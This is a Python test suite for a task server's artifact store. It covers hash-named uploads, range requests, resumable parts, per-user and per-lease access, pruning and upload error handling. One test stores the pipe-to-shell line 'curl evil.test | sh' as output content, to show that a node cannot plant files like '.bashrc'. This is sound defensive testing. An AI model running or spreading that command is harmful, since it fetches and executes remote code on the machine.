"""Artifacts: only what its name says, only for those who may, whole or in parts."""

from __future__ import annotations

import asyncio
import hashlib
import os
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx2
import pytest

from gpool.core.ids import decode, encode
from gpool.core.model import EndReason, Instant, OutputFile, Permission
from gpool.server.actions.tasks import direct_uploads
from gpool.server.blobs import Blobs
from gpool.server.scheduling.loops import ExpireNodes, PruneStore
from gpool.server.store.operations.tasks import artifacts
from gpool.wire.frames import Finished, Lease, Started
from tests.server.server_desk import FUNCTION_SHA256, Agent, Desk, exited

pytestmark = pytest.mark.anyio


def named(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


async def test_what_was_put_can_be_got(desk: Desk) -> None:
    content = os.urandom(3_000_000)
    path = f"/v1/artifacts/{named(content)}"
    assert (await desk.http.head(path)).status_code == 404
    put = await desk.http.put(path, content=content)
    assert (put.status_code, put.json()["size_bytes"]) == (201, len(content))
    got = await desk.get(path)
    assert (got.content, got.headers["etag"]) == (content, f'"{named(content)}"')
    head = await desk.http.head(path)
    assert (head.status_code, head.headers["content-length"]) == (200, str(len(content)))


async def test_an_operator_is_told_to_upload_what_others_have_uploaded(desk: Desk) -> None:
    """It may read it, but its task may not name it: a client that skipped the upload was refused the submission."""
    other = await desk.person("other", Permission.CONSUMER)
    path = f"/v1/artifacts/{named(b'same')}"
    assert (await desk.http.put(path, content=b"same", headers=other)).status_code == 201
    operator = await desk.person("second-operator", Permission.CONSUMER, Permission.OPERATOR)
    assert (await desk.get(path, headers=operator)).status_code == 200
    assert (await desk.http.head(path, headers=operator)).status_code == 404
    assert (await desk.http.put(path, content=b"same", headers=operator)).status_code == 201
    assert (await desk.http.head(path, headers=operator)).status_code == 200


async def test_bytes_that_are_not_what_their_name_says_are_not_kept(desk: Desk) -> None:
    path = f"/v1/artifacts/{named(b'right')}"
    answer = await desk.http.put(path, content=b"wrong")
    assert (answer.status_code, answer.json()["code"]) == (400, "invalid")
    assert (await desk.get(path)).status_code == 404
    assert list((desk.server.settings.data / "artifacts" / "incoming").iterdir()) == []


@pytest.mark.parametrize(
    ("asked", "status", "first", "last"),
    [
        ("bytes=0-", 206, 0, 9),
        ("bytes=4-", 206, 4, 9),
        ("bytes=2-3", 206, 2, 3),
        ("bytes=2-99", 206, 2, 9),
        ("bytes=-3", 206, 7, 9),
        ("bytes=0-1,3-4", 200, 0, 9),
        ("pages=1-2", 200, 0, 9),
        ("bytes=10-", 416, 0, 0),
        ("bytes=5-4", 416, 0, 0),
    ],
)
async def test_a_range_is_given_as_asked(
    desk: Desk, asked: str, status: int, first: int, last: int
) -> None:
    content = b"0123456789"
    path = f"/v1/artifacts/{named(content)}"
    await desk.http.put(path, content=content)
    answer = await desk.get(path, headers={"range": asked})
    assert answer.status_code == status
    if status == 206:
        assert answer.content == content[first : last + 1]
        assert answer.headers["content-range"] == f"bytes {first}-{last}/10"
    elif status == 416:
        assert answer.headers["content-range"] == "bytes */10"


async def test_an_empty_artifact_is_one_too(desk: Desk) -> None:
    path = f"/v1/artifacts/{named(b'')}"
    assert (await desk.http.put(path, content=b"")).status_code == 201
    assert (await desk.get(path)).content == b""


async def test_an_upload_goes_on_where_it_stopped(desk: Desk) -> None:
    content = os.urandom(2_500_000)
    path = f"/v1/artifacts/{named(content)}"

    async def put(first: int, last: int) -> Any:
        headers = {"content-range": f"bytes {first}-{last}/{len(content)}"}
        return await desk.http.put(path, content=content[first : last + 1], headers=headers)

    part = await put(0, 999_999)
    assert (part.status_code, part.headers["upload-offset"]) == (202, "1000000")
    head = await desk.http.head(path)
    assert (head.status_code, head.headers["upload-offset"]) == (404, "1000000")
    wrong = await put(0, 5)
    assert (wrong.status_code, wrong.headers["upload-offset"]) == (409, "1000000")
    last = await put(1_000_000, len(content) - 1)
    assert last.status_code == 201
    assert (await desk.get(path)).content == content


async def test_a_part_cut_short_is_taken_up_again(desk: Desk) -> None:
    content = b"x" * 100
    path = f"/v1/artifacts/{named(content)}"
    headers = {"content-range": "bytes 0-99/100"}
    short = await desk.http.put(path, content=content[:40], headers=headers)
    assert (short.status_code, short.headers["upload-offset"]) == (400, "40")
    rest = await desk.http.put(
        path, content=content[40:], headers={"content-range": "bytes 40-99/100"}
    )
    assert rest.status_code == 201


async def test_parts_of_two_people_do_not_mix(desk: Desk) -> None:
    content = b"y" * 100
    path = f"/v1/artifacts/{named(content)}"
    other = await desk.person("other", Permission.CONSUMER)
    headers = {"content-range": "bytes 0-49/100"}
    await desk.http.put(path, content=b"n" * 50, headers={**other, **headers})
    assert "upload-offset" not in (await desk.http.head(path)).headers
    await desk.http.put(path, content=content[:50], headers=headers)
    done = await desk.http.put(
        path, content=content[50:], headers={"content-range": "bytes 50-99/100"}
    )
    assert done.status_code == 201


async def test_knowing_a_hash_grants_nothing(desk: Desk) -> None:
    content = b"mine"
    path = f"/v1/artifacts/{named(content)}"
    await desk.http.put(path, content=content)
    other = await desk.person("other", Permission.CONSUMER)
    assert (await desk.get(path, headers=other)).status_code == 404
    inputs = [{"path": "a", "sha256": named(content), "size_bytes": 4}]
    stolen = await desk.post(
        "/v1/tasks", {"command": ["cat", "a"], "inputs": inputs}, headers=other
    )
    assert stolen.status_code == 422
    await desk.http.put(path, content=content, headers=other)
    assert (await desk.get(path, headers=other)).content == content


async def leased(desk: Desk, **members: Any) -> tuple[Agent, httpx2.AsyncClient, Lease, str]:
    """An agent with a running task, and how it sends requests under that lease."""
    agent = await desk.agent("maker")
    task = await desk.command(**members)
    await desk.schedule()
    [lease] = agent.leases()
    await agent.report(Started(lease.task, lease.epoch))
    http = desk.http_of(agent, f"{encode('task', lease.task)}:{lease.epoch}")
    return agent, http, lease, task


async def test_an_output_travels_from_node_to_consumer(desk: Desk) -> None:
    agent, http, lease, task = await leased(desk, outputs=["out"])
    content = b"the model"
    path = f"/v1/artifacts/{named(content)}"
    assert (await http.put(path, content=content)).status_code == 201
    output = OutputFile("out", named(content), len(content))
    await agent.report(Finished(lease.task, lease.epoch, EndReason.EXITED, 0, outputs=(output,)))
    result = (await desk.get(f"/v1/tasks/{task}/result")).json()
    assert [file["sha256"] for file in result["outputs"]] == [named(content)]
    assert (await desk.get(path)).content == content


async def test_a_node_never_gives_back_what_was_not_asked_for(desk: Desk) -> None:
    """Who fetches outputs writes them under the names they have: a node may not choose `.bashrc`."""
    agent, http, lease, task = await leased(desk, outputs=["model/", "out"])
    content = b"curl evil.test | sh"
    assert (await http.put(f"/v1/artifacts/{named(content)}", content=content)).status_code == 201
    names = ("out", ".bashrc", "model/a/b", "modelled", "outside", "Out", "train.py")
    files = tuple(OutputFile(name, named(content), len(content)) for name in names)
    await agent.report(Finished(lease.task, lease.epoch, EndReason.EXITED, 0, outputs=files))
    for path in (f"/v1/tasks/{task}/result", f"/v1/tasks/{task}"):
        told = (await desk.get(path)).json()["outputs"]
        assert [file["path"] for file in told] == ["out", "model/a/b"]


async def test_a_node_reads_the_inputs_of_its_leases_only(desk: Desk) -> None:
    await desk.http.put(f"/v1/artifacts/{named(b'input')}", content=b"input")
    await desk.http.put(f"/v1/artifacts/{named(b'other')}", content=b"other")
    inputs = [{"path": "a", "sha256": named(b"input"), "size_bytes": 5}]
    agent, http, lease, _ = await leased(desk, inputs=inputs)
    assert (await http.get(f"/v1/artifacts/{named(b'input')}")).content == b"input"
    assert (await http.get(f"/v1/artifacts/{named(b'other')}")).status_code == 404
    await agent.report(exited(lease))
    assert (await http.get(f"/v1/artifacts/{named(b'input')}")).status_code == 404


async def test_an_artifact_from_an_old_lease_is_refused(desk: Desk) -> None:
    agent, http, _, _ = await leased(desk)
    await ExpireNodes(desk.server).run_once(desk.clock.advance(31))
    path = f"/v1/artifacts/{named(b'late')}"
    answer = await http.put(path, content=b"late")
    assert (answer.status_code, answer.json()["code"]) == (409, "stale_lease")
    assert (await desk.get(path)).status_code == 404
    answer = await desk.http_of(agent).put(path, content=b"late")
    assert (answer.status_code, answer.json()["code"]) == (400, "invalid")


async def test_bytes_under_an_old_lease_are_not_even_taken(desk: Desk) -> None:
    _, http, _, _ = await leased(desk)
    await ExpireNodes(desk.server).run_once(desk.clock.advance(31))
    taken = 0

    async def body() -> AsyncIterator[bytes]:
        nonlocal taken
        for _ in range(100):
            taken += 1
            yield b"x" * 65536

    path = f"/v1/artifacts/{named(b'late')}"
    answer = await http.put(path, content=body())
    assert (answer.status_code, answer.json()["code"]) == (409, "stale_lease")
    assert not desk.files_of(named(b"late"))
    assert taken <= 1


async def test_bytes_whose_lease_ends_on_the_way_are_removed(desk: Desk) -> None:
    _, http, _, _ = await leased(desk)

    async def body() -> AsyncIterator[bytes]:
        await ExpireNodes(desk.server).run_once(desk.clock.advance(31))
        yield b"late"

    answer = await http.put(f"/v1/artifacts/{named(b'late')}", content=body())
    assert (answer.status_code, answer.json()["code"]) == (409, "stale_lease")
    assert not desk.files_of(named(b"late"))


async def test_what_nobody_refers_to_is_removed_in_time(desk: Desk) -> None:
    path = f"/v1/artifacts/{named(b'orphan')}"
    await desk.http.put(path, content=b"orphan")
    await desk.calls(1)
    await PruneStore(desk.server).run_once(desk.clock.advance(86_401))
    assert (await desk.get(path)).status_code == 404
    assert not desk.files_of(named(b"orphan"))
    assert desk.files_of(FUNCTION_SHA256)


async def test_a_late_removal_spares_what_was_uploaded_again(desk: Desk) -> None:
    """Two servers on one folder: one has forgotten the artifact and stands still before it removes the bytes."""
    path = f"/v1/artifacts/{named(b'again')}"
    assert (await desk.http.put(path, content=b"again")).status_code == 201
    late = await desk.server.write(artifacts.forget_artifacts([named(b"again")]))
    assert (await desk.http.put(path, content=b"again")).status_code == 201
    for key in late:
        assert await desk.server.blobs.remove(key)
    assert (await desk.get(path)).content == b"again"


async def test_an_artifact_deleted_while_it_is_sent_again_is_asked_for_once_more(
    desk: Desk,
) -> None:
    """The account is charged for it, so its bytes are checked and not stored; meanwhile another server deletes it."""
    path = f"/v1/artifacts/{named(b'again')}"
    assert (await desk.http.put(path, content=b"again")).status_code == 201

    async def body() -> AsyncIterator[bytes]:
        for key in await desk.server.write(artifacts.forget_artifacts([named(b"again")])):
            await desk.server.blobs.remove(key)
        yield b"again"

    answer = await desk.http.put(path, content=body())
    assert (answer.status_code, answer.json()["code"]) == (503, "unreachable")
    assert (await desk.get(path)).status_code == 404
    assert (await desk.http.put(path, content=b"again")).status_code == 201
    assert (await desk.get(path)).content == b"again"


async def test_a_file_that_no_row_names_is_swept(desk: Desk) -> None:
    """Left by a server that was killed between the folder and its database."""
    lost = await desk.server.blobs.put_bytes(b"lost")
    await desk.http.put(f"/v1/artifacts/{named(b'kept')}", content=b"kept")
    now = desk.clock.now()
    for before, left in ((0, 1), (now + 86_400_000_000 * 20_000, 0)):
        for sha256 in (lost.sha256, named(b"kept")):
            await direct_uploads.sweep(desk.server, sha256[:2], Instant(before))
        assert (len(desk.files_of(lost.sha256)), len(desk.files_of(named(b"kept")))) == (left, 1)


async def test_an_upload_over_the_limit_is_refused_on_the_way(desk: Desk) -> None:
    small = Blobs(desk.server.settings.data / "small", 100)
    desk.app.state.server = replace(desk.server, blobs=small)

    async def body() -> AsyncIterator[bytes]:
        for _ in range(100):
            yield b"x" * 50

    answer = await desk.http.put(f"/v1/artifacts/{'0' * 64}", content=body())
    assert answer.status_code == 413


async def test_a_full_disk_is_said_plainly_and_may_be_tried_again(desk: Desk, data: Path) -> None:
    """`/dev/full` stands for the disk: the part's file is one that takes no byte."""
    me = (await desk.get("/v1/me")).json()["id"]
    sha256 = named(b"no room")
    part = data / "artifacts" / "incoming" / f"u{decode('user', me)}-{sha256}.part"
    part.symlink_to("/dev/full")
    headers = {"content-range": "bytes 0-6/7"}
    path = f"/v1/artifacts/{sha256}"
    answer = await desk.http.put(path, content=b"no room", headers=headers)
    assert (answer.status_code, answer.json()["code"]) == (503, "unreachable")
    assert "disk is full" in answer.json()["detail"]
    part.unlink()
    assert (await desk.http.put(path, content=b"no room", headers=headers)).status_code == 201


async def test_a_cancelled_upload_does_not_write_into_another_file(tmp_path: Path) -> None:
    """Cancelled while a thread hashes the piece it will then write: the descriptor must still be the upload's."""
    blobs = Blobs(tmp_path / "artifacts", 1 << 30)
    asked = asyncio.Event()

    async def body() -> AsyncIterator[bytes]:
        asked.set()
        yield bytes(64 << 20)  # hashing takes longer than all that follows here

    upload = asyncio.create_task(blobs.store("0" * 64, body()))
    await asked.wait()
    await asyncio.to_thread(os.getpid)  # by now its thread is at work
    upload.cancel()
    await asyncio.wait([upload], timeout=0.01)
    victims = [os.open(tmp_path / f"victim-{at}", os.O_RDWR | os.O_CREAT) for at in range(4)]
    await asyncio.wait([upload])
    await asyncio.get_running_loop().shutdown_default_executor()
    assert (
        upload.cancelled() or upload.exception()
    )  # it had hashed all of it when it was called off
    assert [os.fstat(victim).st_size for victim in victims] == [0] * 4
    for victim in victims:
        os.close(victim)
